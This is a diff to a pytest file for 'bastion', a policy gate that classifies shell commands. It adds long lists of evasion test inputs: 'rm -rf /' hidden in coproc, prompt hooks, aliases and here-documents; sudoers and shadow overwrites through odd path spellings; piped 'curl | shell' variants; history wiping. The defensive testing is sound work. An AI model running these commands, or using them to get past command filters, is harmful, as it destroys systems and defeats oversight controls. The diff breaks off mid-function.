@@ -6,6 +6,7 @@ meet it; the semantics of rules are pinned with small policies written inline.
 
 from __future__ import annotations
 
+import re
 import shlex
 import shutil
 import subprocess
@@ -16,16 +17,23 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from bastion import gate
 from bastion.policy import (
     ACTIONS,
+    FILE_OPERATIONS,
+    SHELLS,
     Defaults,
     Policy,
     PolicyError,
     Rule,
     evaluate,
     is_complete,
+    judge_path,
+    normalise_path,
     parse_commands,
     policy_from_dict,
+    reads_script_from_stdin,
+    shell_name,
     uncertain_verdict,
 )
 
@@ -268,6 +276,130 @@ DENIED_BYPASSES = [
     "mv /etc/shadow /tmp/",
     "dd if=/tmp/x of=/etc/shadow",
     "chage -d 0 root",
+    # coproc compounds (tree-sitter-bash reads their braces as words)
+    "coproc { rm -rf /; }",
+    "coproc N { rm -rf /; }",
+    "coproc (rm -rf /)",
+    "echo x; coproc worker { rm -rf /; }",
+    "coproc bash",  # a shell fed through the coprocess pipe
+    # backticks in an unquoted here-document body
+    "cat <<EOF\n`rm -rf /`\nEOF",
+    "cat <<EOF; ls\n`rm -rf /`\nEOF",
+    # path spellings (rules' paths: lexically normalised, ~ expanded)
+    "echo x >> /etc//sudoers",
+    "echo x >> /etc/./sudoers",
+    "echo x >> /etc/../etc/sudoers",
+    "echo x >> //etc/sudoers",
+    "echo x >> /tmp/../../etc/sudoers.d/x",
+    "echo x | tee -a /etc/./sudoers.d//eve",
+    "rm -rf /tmp/../",
+    "rm -rf /tmp/..",
+    "rm -rf ~root",
+    "rm -rf ~root/",
+    "rm -rf /root/.",
+    "rm -rf //etc/.",
+    "rm -rf /usr/local/../../var",
+    "rm -rf /home/bob",
+    "cp /tmp/shadow /etc",
+    "cp /tmp/shadow /etc/",
+    "cp -t /etc /tmp/shadow",
+    "cp --target-directory=/etc /tmp/shadow",
+    "install -m 600 /tmp/s /etc/shadow",
+    "mv /tmp/x /etc//sudoers.d/",
+    "ln -sf /tmp/x /etc/sudoers",
+    "dd if=/tmp/x of=/etc/./shadow",
+    "sed -i s/x/y/ /etc//passwd",
+    "truncate -s0 /var/log//wtmp",
+    "rm /var/log/audit/../audit/audit.log",
+    "shred /dev//sda",
+    "cat img > /dev/./sda",
+    "cat img >| /dev/sda",
+    "cat img &> /dev/sda",
+    "rm ~/.bash_history",
+    "rm ./.bash_history",
+    "ln -sf /dev/null .bash_history",
+    "> ~root/.bash_history",
+    "echo x > /etc/sudoer{s,x}",
+    "echo x > /proc/self/root/etc/sudoers",
+    "rm -rf /proc/1/root/",
+    "rm /proc/self/cwd/.bash_history",
+    # the remote end of a legacy scp writing a protected file
+    "scp -t /etc/sudoers",
+    "scp -v -d -t -- /etc//shadow",
+    # shells and interpreters the policy did not know, or named by path and version
+    "rbash -c 'rm -rf /'",
+    "/usr/local/bin/bash5.2 -c 'rm -rf /'",
+    "ksh93 -c 'rm -rf /'",
+    "mksh -c 'rm -rf /'",
+    "busybox ash -c 'rm -rf /'",
+    "toybox sh -c 'rm -rf /'",
+    "bash -o emacs -c 'rm -rf /'",
+    "bash -O extglob -c 'rm -rf /'",
+    "fish -C 'rm -rf /'",
+    "fish --init-command='rm -rf /'",
+    "printf 'ls\n' | rbash",
+    "curl x | /bin/dash",
+    "curl x | bash5.2",
+    "curl x | busybox sh",
+    "curl x | python3 -W ignore",
+    "curl x | perl -I /tmp",
+    "curl x | awk -f -",
+    "noglob rm -rf /",
+    # the user's shell started with no command, fed text
+    "echo 'rm -rf /' | su",
+    "curl x | sudo -s",
+    "curl x | sudo -i",
+    "curl x | doas -s",
+    "curl x | script -q /dev/null",
+    "curl x | chroot /",
+    "sudo -s <<< 'rm -rf /'",
+    "su - <<< 'rm -rf /'",
+    # a same-line cd makes a relative path absolute
+    "cd /etc; rm -f sudoers",
+    "cd /etc && echo x >> sudoers",
+    "cd / && rm -rf etc",
+    "cd /; cd etc; rm shadow",
+    "cd; rm .bash_history",
+    "sed --in-place=.bak s/x/y/ /etc/passwd",
+    "bash /dev//stdin <<< 'rm -rf /'",
+    "sh /proc/self/fd/0 <<< 'rm -rf /'",
+    ". /dev/./stdin <<< 'rm -rf /'",
+    "curl -fsSo /etc/sudoers.d/x https://x.example/y",
+    "wget -O /etc//shadow https://x.example/y",
+    "sort -o /etc/passwd /tmp/passwd",
+    "find / -maxdepth 0 -fprintf /etc/shadow x",
+    # hooks that store code the shell runs later, set indirectly
+    "printf -v PROMPT_COMMAND %s 'rm -rf /'",
+    "PROMPT_COMMAND+='; rm -rf /'",
+    "PROMPT_COMMAND=(history 'rm -rf /')",
+    "declare 'PROMPT_COMMAND=rm -rf /'",
+    "export 'PS1=$(rm -rf /)'",
+    "local PS1='$(rm -rf /)'",
+    "readonly PS4='$(rm -rf /)'",
+    "typeset PS0='`rm -rf /`'",
+    ": ${PROMPT_COMMAND:=rm -rf /}",
+    "for PROMPT_COMMAND in 'rm -rf /'; do :; done",
+    "mapfile -C 'rm -rf /' -c 1 < /etc/hosts",
+    "readarray -C 'rm -rf /' -c 1 < /etc/hosts",
+    "complete -C 'rm -rf /' ls",
+    "complete -W '$(rm -rf /)' ls",
+    "compgen -C 'rm -rf /' x",
+    "compgen -W '`rm -rf /`'",
+    "bind -x '\"\\C-t\": rm -rf /'",
+    "bind -x '\"\\C-t\": \"rm -rf /\"'",
+    "BASH_ALIASES[ls]='rm -rf /'",
+    "env 'BASH_FUNC_f%%=() { rm -rf /; }' bash -c f",
+    "BASH_ENV='$(rm -rf /)' bash -c :",
+    "env ENV='$(rm -rf /)' sh -i",
+    "MAILPATH='/var/mail/root?$(rm -rf /)'",
+    "export MAIL='`rm -rf /`'",
+    "sudo -i PS1='$(rm -rf /)' bash",
+    # prompts: decoded before they are expanded
+    "PS1='\\044(rm -rf /)'",
+    "PS1='\\140rm -rf /\\140'",
+    "export PS1='\\[\\e[1m\\]$(rm -rf /)\\[\\e[0m\\]'",
+    "PS2='\"$(rm -rf /)\"'",
+    "PS1=\"\\$PS1\\$(rm -rf /)\"",
 ]
 
 
@@ -324,6 +456,16 @@ UNKNOWN_LINES = [
     ("python3 <(curl x)", "runs a process substitution"),
     ("sh < <(curl x)", "reads a process substitution"),
     ("source <(curl x)", "sources a process substitution"),
+    ("bash --rcfile <(curl x)", "runs a process substitution"),
+    ("bash /proc/$$/fd/0 <<< 'touch /tmp/x'", "runs a file known only at run time"),
+    ("source \"$f\" <<< 'touch /tmp/x'", "runs a file known only at run time"),
+    ("echo 'touch /tmp/x' | python3 \"$f\"", "runs a file known only at run time"),
+    # an alias to a command that runs its arguments: the next line's words are code
+    ("alias x=eval", "shell code known only at run time"),
+    ("alias s=sudo", "options of sudo known only at run time"),
+    ("alias x='sh -c'", "shell code known only at run time"),
+    ("BASH_ALIASES[x]=eval", "shell code known only at run time"),
+    ("bash --init-file <(curl x) -i", "runs a process substitution"),
     (". <(curl x)", "sources a process substitution"),
     ("sudo sudo sudo sudo sudo sudo sudo sudo sudo rm -rf /", "nested too deeply"),
     ("!!", "history expansion"),
@@ -334,6 +476,99 @@ UNKNOWN_LINES = [
     ("echo $(( 1 + ", "parse error"),
     ("exec 3<>/dev/tcp/10.0.0.1/80", "parse error"),
     ("echo 'x'; - a=b", "parse error"),  # tree-sitter drops the `-`: an assignment?
+    # history re-execution: what runs is an earlier line, edited
+    ("fc -s xouch=touch", "history re-execution"),
+    ("fc -s", "history re-execution"),
+    ("fc -e 'sed -i s/xouch/touch/'", "history re-execution"),
+    ("fc -e - 42", "history re-execution"),
+    ("fc", "history re-execution"),
+    ("fc 10 12", "history re-execution"),
+    ("sudo fc -s", "history re-execution"),
+    ("r xouch=touch", "history re-execution"),
+    # hooks set to values known only at run time, or through names
+    ("printf -v PROMPT_COMMAND %q 'touch /tmp/x'", "PROMPT_COMMAND set to a value known only"),
+    ("printf -v PS1 '%s' \"$x\"", "PS1 set to a value known only"),
+    ("read -r PROMPT_COMMAND <<< 'touch /tmp/x'", "PROMPT_COMMAND set to a value known only"),
+    ("read -a PROMPT_COMMAND", "PROMPT_COMMAND set to a value known only"),
+    ("IFS= read -r PS1", "PS1 set to a value known only"),
+    ("mapfile PROMPT_COMMAND < /tmp/cmds", "PROMPT_COMMAND set to a value known only"),
+    ("readarray -t PROMPT_COMMAND < /tmp/cmds", "PROMPT_COMMAND set to a value known only"),
+    ("getopts ab PROMPT_COMMAND", "PROMPT_COMMAND set to a value known only"),
+    ("wait -p PROMPT_COMMAND", "PROMPT_COMMAND set to a value known only"),
+    ("declare -n r=PROMPT_COMMAND", "PROMPT_COMMAND set to a value known only"),
+    ("local -n ref=PS1", "PS1 set to a value known only"),
+    ("declare -n PROMPT_COMMAND=cmds", "PROMPT_COMMAND set to a value known only"),
+    ("typeset -n r", "whose target a later line sets"),
+    ("declare -n r; r=PROMPT_COMMAND", "whose target a later line sets"),
+    (": ${PS1=\\$(rm -rf /)}", "parse error"),
+    ('declare -n r="$name"', "name reference to a name known only at run time"),
+    ('PROMPT_COMMAND="$cmd"', "PROMPT_COMMAND set to a value known only"),
+    ('PS1="$x"', "PS1 set to a value known only"),
+    ("export $assignment", "export of a name known only at run time"),
+    ("BASH_CMDS[ls]=/bin/rm", "BASH_CMDS makes a command name run another program"),
+    ("hash -p /bin/rm ls", "hash -p makes a command name run another program"),
+    ('hash -p "$prog" ls', "hash -p makes a command name run another program"),
+    ("enable -f /tmp/evil.so evil", "enable -f loads a shared object"),
+    ("bind '\"\\C-t\": accept-line'", "accept-line, which runs or submits the line"),
+    ("bind '\"\\C-t\": \"touch /tmp/x\\n\"'", "a key bound to typed text"),
+    ("bind '\"\\ee\": edit-and-execute-command'", "edit-and-execute-command"),
+    ("bind -m vi-command '\"#\": insert-comment'", "insert-comment"),
+    ("bind '\"\\C-x\\C-x\": shell-expand-line'", "shell-expand-line"),
+    ("bind 'set enable-bracketed-paste off'", "bracketed paste off"),
+    ("bind -f /tmp/inputrc", "reads key bindings from a file"),
+    ('bind -x "$binding"', "a key binding known only at run time"),
+    ("bindkey -s '^T' 'touch /tmp/x\\n'", "bindkey -s binds a key to typed text"),
+    ("set -k", "set -k makes words after a command assignments"),
+    ("set -o keyword", "set -o keyword"),
+    ("shopt -u interactive_comments", "interactive comments off"),
+    ("set +o interactive-comments", "interactive comments off"),
+    ("complete -C \"$cmd\" ls", "shell code known only at run time"),
+    ("mapfile -C \"$cb\" -c 1 < f", "shell code known only at run time"),
+    ("env \"BASH_FUNC_f%%=$body\" bash -c f", "options of env known only at run time"),
+    # names whose subscript is evaluated (as arithmetic) when the builtin runs
+    ("printf -v 'a[$(touch /tmp/x)]' %s 1", "arithmetic on a command's output"),
+    ("read 'a[$(touch /tmp/x)]' <<< x", "arithmetic on a command's output"),
+    ("declare 'a[$(touch /tmp/x)]=1'", "arithmetic on a command's output"),
+    ("[[ -v 'a[$(touch /tmp/x)]' ]]", "arithmetic on a command's output"),
+    ("[[ -v $name ]]", "a variable name known only at run time"),
+    # indirection and prompt expansion of values set elsewhere
+    ("echo ${!x}", "indirect expansion"),
+    ("echo ${!x[1]}", "indirect expansion"),
+    ('echo "${x@P}"', "prompt expansion"),
+    # arithmetic evaluates a variable's value as an expression (x='a[$(cmd)]')
+    ("echo $((x))", "arithmetic on x"),
+    ("echo $[x + 1]", "arithmetic on x"),
+    ("echo $(( $n * 2 ))", "arithmetic on n"),
+    ("(( x > 1 ))", "arithmetic on x"),
+    ("for ((i=0; i<n; i++)); do :; done", "arithmetic on n"),
+    ("[[ $x -eq 1 ]]", "arithmetic on x"),
+    ("[[ x -lt 2 ]]", "arithmetic on x"),
+    ("[[ $(cat /tmp/n) -gt 0 ]]", "arithmetic on a command's output"),
+    ("echo $(( $(cat /tmp/n) + 1 ))", "arithmetic on a command's output"),
+    ("echo ${a[x]}", "arithmetic on x"),
+    ("echo ${s:x:2}", "arithmetic on x"),
+    ("a[x]=1", "arithmetic on x"),
+    ("let y=x+1", "arithmetic on x"),
+    ("declare -i y=x", "arithmetic on x"),
+    ("declare -i x", "later assignments are evaluated as arithmetic"),
+    ("local -i count=0", "later assignments are evaluated as arithmetic"),
+    ("INPUTRC=/tmp/bindings", "INPUTRC names key bindings"),
+    ("x='a[$(touch /tmp/x)]'; echo $((x))", "arithmetic on x"),
+    ("x=5; x=$y; echo $((x))", "arithmetic on x"),
+    ("export PS1='$((x))> '", "arithmetic on x"),
+    ("echo $((RANDOM))", "arithmetic on RANDOM"),
+    # other shells' constructs that bash reads as plain words
+    ("zsh -c 'ls *(e:touch /tmp/x:)'", "zsh syntax that bash does not have"),
+    ("zsh -c 'echo ${(e)x}'", "zsh syntax that bash does not have"),
+    ("zsh -c 'diff =(ls) /dev/null'", "zsh syntax that bash does not have"),
+    ("zsh -c '=rm -rf /tmp/x'", "zsh syntax that bash does not have"),
+    ("zsh -c 'repeat 2 touch /tmp/x'", "zsh syntax that bash does not have"),
+    ("zsh <<< 'ls *(+f)'", "zsh syntax that bash does not have"),
+    ("ksh -c 'echo ${ touch /tmp/x;}'", "ksh syntax that bash does not have"),
+    ("mksh -c 'echo ${|touch /tmp/x;}'", "mksh syntax that bash does not have"),
+    ("fish -c 'echo (touch /tmp/x)'", "fish's grammar"),
+    ("csh -c 'echo hi'", "csh's grammar"),
+    ("tcsh <<< 'echo hi'", "tcsh's grammar"),
 ]
 
 
@@ -446,6 +681,91 @@ ALLOWED = [
     "",
     "   ",
     "ls # ; rm -rf /",
+    # prompts and hooks of ordinary work
+    "export PS1='A$((40+2))> '",
+    "PS1='\\u@\\h:\\w\\$ '",
+    "PS1='\\[\\e[32m\\]\\u@\\h\\[\\e[0m\\]:\\w\\$ '",
+    "export PS1='\\D{%H:%M} \\W \\$ '",
+    'PS1="(venv) $PS1"',
+    'PS1="${PS1}> "',
+    "PS2='> '",
+    "PS4='+ ${BASH_SOURCE}:${LINENO}: '",
+    "export PS1='$(date +%H:%M) \\$ '",
+    "PS1='\\u $(git branch --show-current 2>/dev/null) \\$ '",
+    'PROMPT_COMMAND="history -a; $PROMPT_COMMAND"',
+    "export PROMPT_COMMAND='history -a; history -n'",
+    "export BASH_ENV=~/.bash_env",
+    "fc -l",
+    "fc -ln -20",
+    # arithmetic that runs nothing
+    "echo $((1024 * 1024))",
+    "echo $(( (7 + 3) % 4 ))",
+    "echo $((16#ff + 0x10))",
+    "x=5; echo $((x * 2))",
+    "for ((i = 0; i < 3; i++)); do echo $i; done",
+    "for i in 1 2 3; do echo $((i * 2)); done",
+    "((n = 10)); echo $((n / 2))",
+    "[[ $# -eq 0 ]] && echo none",
+    "echo $(($? + 1))",
+    "echo ${arr[0]} ${arr[@]} ${#arr[@]} ${!arr[@]}",
+    "echo ${PATH:0:10}",
+    "echo ${!BASH_*}",
+    # builtins that assign variables, bind keys, complete
+    "read -r name",
+    "read -rp 'Continue? ' answer",
+    "while read -r line; do echo \"$line\"; done < /etc/hosts",
+    "mapfile -t lines < /etc/hosts",
+    "printf -v now '%(%s)T' -1",
+    "printf -v padded '%05d' 42",
+    "getopts 'ab:' opt",
+    "declare -A map",
+    "declare -n ref=config",
+    "export PATH=\"$PATH:/opt/tools/bin\"",
+    "complete -F _git git",
+    "complete -W 'start stop status' svc",
+    "compgen -c | head",
+    "bind '\"\\e[A\": history-search-backward'",
+    "bind 'set completion-ignore-case on'",
+    "bind -p | grep accept",
+    "set -o vi",
+    "set -euo pipefail",
+    "shopt -s histappend checkwinsize",
+    "hash -r",
+    "alias ll='ls -la'",
+    "alias rm='rm -i'",
+    "alias k=kubectl",
+    "alias gs='git status'",
+    "alias ..='cd ..'",
+    "hash -p /usr/local/bin/python3 python3",
+    "enable -n echo",
+    # files: reads, copies away, relative paths, ~
+    "cat < /etc/hosts",
+    "cp /etc/shadow /root/shadow.bak",
+    "cp /etc/sudoers /tmp/",
+    "rsync -a /etc/ /backup/etc/",
+    "dd if=/etc/shadow of=/tmp/shadow.img",
+    "cp nginx.conf /etc/nginx/conf.d/",
+    "cp *.conf /etc/nginx/conf.d/",
+    "install -m 755 bin/app /usr/local/bin/",
+    "ln -s /opt/app/releases/42 /opt/app/current",
+    "rm -rf ./build/../dist",
+    "rm -rf /tmp/build/../cache",
+    "rm -rf ~/tmp",
+    "rm -rf build/*",
+    "rm -f /var/log/nginx/*.gz",
+    "echo 'export FOO=1' >> ~/.bashrc",
+    "tee -a /tmp/notes.txt < /etc/hostname",
+    "vim ~/.bashrc",
+    "sed -i 's/80/8080/' /etc/nginx/sites-available/default",
+    "scp -t /tmp/upload.tgz",
+    "cp -r /etc/nginx /tmp/nginx.bak",
+    "cp -a /etc/skel/. /home/bob",
+    "cd /tmp && rm -rf build",
+    "cd /etc/nginx && vim nginx.conf",
+    "cd ~/src && git pull",
+    "scp -f /var/log/nginx/access.log",
+    "sudo cp app.service /etc/systemd/system/",
+    "echo ok > /dev/null 2>&1",
 ]
 
 
@@ -463,7 +783,7 @@ DEFAULT_DECISIONS = [
     ("mkfs -t xfs /dev/sdb", "deny", "no-filesystem-wipe"),
     ("wipefs -a /dev/sdb", "deny", "no-filesystem-wipe"),
     ("shred /dev/sda", "deny", "no-device-shred"),
-    ("dd if=/dev/zero of=/dev/sda", "deny", "no-raw-disk-write-dd"),
+    ("dd if=/dev/zero of=/dev/sda", "deny", "no-raw-disk-write"),
     ("cat image > /dev/sda", "deny", "no-raw-disk-write"),
     ("tee /dev/nvme0n1 < img", "deny", "no-raw-disk-write"),
     ("iptables -F", "deny", "no-firewall-flush"),
@@ -504,7 +824,7 @@ DEFAULT_DECISIONS = [
     ("chattr -i /etc/passwd", "deny", "no-credential-file-writes"),
     ("echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "deny", "no-credential-file-writes"),
     ("echo x | tee -a /etc/sudoers.d/eve", "deny", "no-credential-file-writes"),
-    ("cp /tmp/shadow /etc/shadow", "deny", "no-credential-file-replace"),
+    ("cp /tmp/shadow /etc/shadow", "deny", "no-credential-file-writes"),
     ("sed -i 's/x//' /etc/passwd", "deny", "no-credential-file-sed"),
     # confirm
     ("reboot", "confirm", "confirm-power"),
@@ -535,6 +855,20 @@ DEFAULT_DECISIONS = [
     ("vim /etc/sudoers", "confirm", "confirm-credential-edit"),
     ("sudo -e /etc/sudoers", "confirm", "confirm-credential-edit"),
     ("rm -rf \"$dir\"", "confirm", "no-root-wipe"),
+    ("vim /etc//sudoers", "confirm", "confirm-credential-edit"),
+    ("nano ~root/../etc/shadow", "confirm", "confirm-credential-edit"),
+    ("echo x > /etc/sudoer?", "confirm", "no-credential-file-writes"),
+    ("echo x > /etc/sudoers.d/*", "confirm", "no-credential-file-writes"),
+    ("echo x > /etc/[sp]asswd", "confirm", "no-credential-file-writes"),
+    ("rm /etc/s*", "confirm", "no-credential-file-writes"),
+    ("cp -a /tmp/evil/etc /", "confirm", "no-credential-file-writes"),
+    ("rsync -a /tmp/evil/ /etc/", "confirm", "no-credential-file-writes"),
+    ("cd \"$d\" && rm -rf etc", "confirm", "no-root-wipe"),
+    ("tee /etc/\"$f\"", "confirm", "no-raw-disk-write"),  # any rule on ">" could match
+    ("cp x \"$dest\"", "confirm", "no-raw-disk-write"),
+    ("declare -n h=HISTFILE", "confirm", "no-history-off"),
+    ("read HISTFILE", "confirm", "no-history-off"),
+    ("scp -t /etc/sudoer?", "confirm", "no-credential-file-writes"),
     ("echo / | xargs rm -rf", "confirm", "no-root-wipe"),
     ("find /tmp -name x -exec rm -rf {} \\;", "confirm", "no-root-wipe"),
     ("bash -c 'rm -rf \"$1\"' _ /", "confirm", "no-root-wipe"),
@@ -569,6 +903,16 @@ def test_default_policy_categories(
 ) -> None:
     verdict = evaluate(default_policy, line, role="engineer", target="web01")
     assert (verdict.action, verdict.rule) == (expected, rule), verdict.commands
+
+
+def test_the_readme_examples_hold(default_policy: Policy) -> None:
+    readme = (POLICY_FILE.parents[1] / "README.md").read_text()
+    block = readme.split("With the default policy:\n\n```\n", 1)[1].split("```", 1)[0]
+    rows = [re.split(r"\s{2,}", row.strip()) for row in block.splitlines() if row.strip()]
+    assert len(rows) > 10
+    for line, expected, rule, *_ in rows:
+        verdict = evaluate(default_policy, line, role="engineer", target="web01")
+        assert (verdict.action, verdict.rule) == (expected, rule), line
 
 
 def test_default_policy_roles_and_targets(default_policy: Policy) -> None:
@@ -613,7 +957,7 @@ COMMAND_NAMES = [
     ("ls > out.txt", ["ls", ">"]),
     ("ls >> out.txt 2>&1", ["ls", ">"]),
     ("ls 2>&1 >&2", ["ls"]),
-    ("cat < in.txt", ["cat"]),
+    ("cat < in.txt", ["cat", "<"]),
     ("ls; pwd", ["ls", "pwd"]),
     ("ls && pwd || id", ["ls", "pwd", "id"]),
     ("ps aux | grep x | wc -l", ["ps", "grep", "wc"]),
@@ -624,7 +968,7 @@ COMMAND_NAMES = [
     ("diff <(ls a) <(ls b)", ["diff", "ls", "ls"]),
     ("if [ -f x ]; then cat x; else touch x; fi", ["cat", "touch"]),
     ("[[ -n $(id -u) ]]", ["id"]),
-    ("while read l; do echo $l; done < f", ["read", "echo"]),
+    ("while read l; do echo $l; done < f", ["read", "l=", "echo", "<"]),
     ("case $1 in start) run;; stop) halt;; esac", ["run", "halt"]),
     ("f() { ls; }; f", ["ls", "f"]),
     ("sudo -u root nice -n 5 ls", ["ls"]),
@@ -633,7 +977,7 @@ COMMAND_NAMES = [
     ("env -- A=1 ls", ["ls", "A="]),
     ("timeout -k 5 10 ls", ["ls"]),
     ("xargs -n1 -P4 gzip", ["gzip"]),
-    ("xargs -I{} cp {} /tmp", ["cp"]),
+    ("xargs -I{} cp {} /tmp", ["cp", ">"]),
     ("find . -name '*.log' -exec gzip {} \\;", ["find", "gzip"]),
     ("find . -exec ls {} + -exec wc -l {} \\;", ["find", "ls", "wc"]),
     ("watch -n 5 'df -h; free -m'", ["df", "free"]),
@@ -649,7 +993,7 @@ COMMAND_NAMES = [
     ("ssh host rm -rf /", ["ssh"]),
     ("bash script.sh", ["bash"]),
     ("bash", ["bash"]),
-    ("bash < script.sh", ["bash"]),
+    ("bash < script.sh", ["bash", "<"]),
     ("bash <<< 'ls'", ["ls"]),
     ("cat <<EOF\nhello\nEOF", ["cat"]),
     ("cat <<EOF > /tmp/x\n$(date)\nEOF", ["cat", ">", "date"]),
@@ -906,6 +1250,326 @@ def test_rules_can_be_built_directly() -> None:
 
 
 # ---------------------------------------------------------------------------------------------
+# Paths: the rule key `paths`, with small policies.
+
+SUDOERS = {"name": "sudoers", "action": "deny", "commands": [">", "rm", "cat", "mv", "chmod", "<"],
+           "paths": ["/etc/sudoers", "/etc/sudoers.d/**"]}
+
+
+@pytest.mark.parametrize(("path", "normalised"), [
+    ("/etc/sudoers", "/etc/sudoers"), ("/etc//sudoers", "/etc/sudoers"),
+    ("/etc/./sudoers", "/etc/sudoers"), ("/etc/../etc/sudoers", "/etc/sudoers"),
+    ("//etc/sudoers/", "/etc/sudoers"), ("/tmp/../", "/"), ("/..", "/"), ("/../../etc", "/etc"),
+    ("a/./b/../c", "a/c"), ("../x", "../x"), ("./", "."), ("", "."), ("a/..", "."),
+])
+def test_paths_are_normalised_lexically(path: str, normalised: str) -> None:
+    assert normalise_path(path) == normalised
+
+
+PATH_CASES = [
+    # (line, login, action): how each spelling of a path meets the rule above
+    ("cat /etc/sudoers", None, "deny"),
+    ("cat /etc//sudoers", None, "deny"),
+    ("cat /etc/./sudoers", None, "deny"),
+    ("cat /tmp/../etc/sudoers", None, "deny"),
+    ("cat /etc/sudoers.d", None, "deny"),  # ** also spans no component
+    ("cat /etc/sudoers.d/a/b", None, "deny"),
+    ("cat /etc/sudoers.bak", None, "allow"),
+    ("cat /etc/sudoersX", None, "allow"),
+    ("cat -- /etc/sudoers", None, "deny"),
+    ("cat --file=/etc/sudoers", None, "deny"),
+    ("cat -f/etc/sudoers", None, "deny"),
+    ("cat if=/etc/sudoers", None, "deny"),
+    ("echo x > /etc/sudoers", None, "deny"),
+    ("cat < /etc//sudoers", None, "deny"),
+    ("cat '/etc/sudoer?'", None, "allow"),  # quoted: a file named "sudoer?"
+    ("cat /etc/sudoer?", None, "confirm"),  # a glob that could match
+    ("cat /etc/*", None, "confirm"),
+    ("cat /e*/sudoers.d/x", None, "confirm"),
+    ("cat /etc/sudoers.d/*", None, "confirm"),
+    ("cat /etc/*.conf", None, "allow"),  # cannot be sudoers
+    ("cat /etc/x/*", None, "allow"),
+    ("cat /etc/sudoer{s,x}", None, "deny"),  # braces expand into /etc/sudoers
+    ("cat /etc/{a,b}", None, "allow"),
+    ('cat "$f"', None, "confirm"),  # known only at run time
+    ("cat /etc/$(echo sudoers)", None, "confirm"),
+    ("cat etc/sudoers", None, "allow"),  # relative: judged as written
+    ("cat ../etc/sudoers", None, "allow"),
+    ("cat ~root/../etc/sudoers", None, "deny"),  # ~root is /root
+    ("cat ~/../../etc/sudoers", "deploy", "deny"),  # ~ is /home/deploy
+    ("cat ~/../etc/sudoers", "root", "deny"),  # ~ is /root
+    ("cat ~/../etc/sudoers", None, "allow"),  # some /home/*: /home/x/../etc is /home/etc
+    ("cat ~/../../etc/sudoers", None, "deny"),
+    ("cat ~/x", None, "allow"),
+    ("cat '~root/../etc/sudoers'", None, "allow"),  # a quoted ~ is no home
+    ("cat ~+/sudoers", None, "confirm"),  # $PWD
+]
+
+
+@pytest.mark.parametrize(("line", "login", "expected"), PATH_CASES)
+def test_rules_match_paths_however_they_are_spelled(line: str, login: str | None,
+                                                     expected: str) -> None:
+    policy = small_policy(SUDOERS)
+    verdict = evaluate(policy, line, role="r", target="t", login=login)
+    assert verdict.action == expected, verdict.commands
+
+
+def test_path_globs_star_stays_in_a_component_and_a_bare_name_matches_anywhere() -> None:
+    policy = small_policy(
+        {"name": "top", "action": "deny", "commands": ["rm"], "paths": ["/srv/*"]},
+        {"name": "deep", "action": "confirm", "commands": ["rm"], "paths": ["/data/**/keep"]},
+        {"name": "history", "action": "alert", "commands": ["rm"], "paths": [".bash_history"]},
+    )
+    cases = [("rm /srv/a", "deny"), ("rm /srv/a/b", "allow"), ("rm /data/keep", "confirm"),
+             ("rm /data/a/b/keep", "confirm"), ("rm /data/a/keeps", "allow"),
+             ("rm .bash_history", "alert"), ("rm /root/.bash_history", "alert"),
+             ("rm ~/.bash_history", "alert"), ("rm x.bash_history", "allow"),
+             ("rm *", "allow"),  # a glob does not match a leading dot
+             ("rm .*", "alert")]  # .* could be .bash_history: the weaker of alert and unknown
+    for line, expected in cases:
+        assert evaluate(policy, line, role="r", target="t").action == expected, line
+
+
+def test_an_allow_rule_with_paths_needs_every_path_to_match() -> None:
+    policy = small_policy(
+        {"name": "tmp-ok", "action": "allow", "commands": ["rm"], "paths": ["/tmp/**"]},
+        {"name": "no-rm", "action": "deny", "commands": ["rm"]},
+    )
+    cases = [("rm /tmp/a /tmp/b/c", "allow"), ("rm /tmp/a /etc/passwd", "deny"),
+             ("rm /tmp/../etc/passwd", "deny"), ("rm /tmp/*", "deny"), ('rm "$f"', "deny"),
+             ("rm", "deny")]
+    for line, expected in cases:
+        assert evaluate(policy, line, role="r", target="t").action == expected, line
+
+
+def test_paths_combine_with_flags_and_args() -> None:
+    policy = small_policy({"name": "r", "action": "deny", "commands": ["rm"], "flags": ["-r"],
+                           "paths": ["/srv"]})
+    cases = [("rm -r /srv", "deny"), ("rm /srv", "allow"), ("rm -r /srv/x", "allow"),
+             ("rm $opts /srv", "confirm"), ("rm -r /s?v", "confirm")]
+    for line, expected in cases:
+        assert evaluate(policy, line, role="r", target="t").action == expected, line
+
+
+# Commands that write a file count as ">" on it, as a redirection does.
+WRITES = [
+    ("tee a /etc/sudoers", ["/etc/sudoers"]),
+    ("tee -a /etc/sudoers < x", ["/etc/sudoers"]),
+    ("dd if=/dev/zero of=/etc/sudoers", ["/etc/sudoers"]),
+    ("cp x /etc/sudoers", ["/etc/sudoers"]),
+    ("cp sudoers /etc", ["/etc/sudoers"]),  # into the directory
+    ("cp -r a/sudoers b /etc/", ["/etc/sudoers"]),
+    ("cp -t /etc sudoers", ["/etc/sudoers"]),
+    ("mv sudoers /etc/.", ["/etc/sudoers"]),
+    ("install -m 0440 -o root x /etc/sudoers", ["/etc/sudoers"]),
+    ("ln -sf /tmp/x /etc/sudoers", ["/etc/sudoers"]),
+    ("rsync -a --chmod=F440 x /etc/sudoers", ["/etc/sudoers"]),
+    ("scp -t /etc/sudoers", ["/etc/sudoers"]),
+    ("find /var -maxdepth 0 -fprint /etc/sudoers", ["/etc/sudoers"]),
+    ("sort -uo /etc/sudoers x", ["/etc/sudoers"]),
+    ("curl --output=/etc/sudoers http://x", ["/etc/sudoers"]),
+    ("wget -q -O /etc/sudoers http://x", ["/etc/sudoers"]),
+]
+
+
+@pytest.mark.parametrize(("line", "written"), WRITES)
+def test_files_a_command_writes_count_as_writes(line: str, written: list[str]) -> None:
+    policy = small_policy({"name": "w", "action": "deny", "commands": [">"],
+                           "paths": ["/etc/sudoers"]})
+    assert evaluate(policy, line, role="r", target="t").action == "deny"
+    # The file copied away is only read: "cp /etc/sudoers /tmp" writes /tmp and /tmp/sudoers.
+    assert evaluate(policy, line.replace("/etc", "/srv"), role="r", target="t").action == "allow"
+    assert evaluate(policy, "cp /etc/sudoers /tmp/", role="r", target="t").action == "allow"
+
+
+@pytest.mark.parametrize("op", FILE_OPERATIONS)
+@pytest.mark.parametrize("path", [
+    "/etc/sudoers", "/etc//sudoers", "/etc/./sudoers.d/x", "/tmp/../etc/sudoers", "/tmp/x",
+    "sudoers", "/etc/sudoer?", "~root/x", "/etc/sudoers.d/a b", "/tmp/$(touch x)",
+])
+def test_judge_path_gives_the_verdict_of_the_equivalent_line(op: str, path: str) -> None:
+    policy = small_policy(SUDOERS)
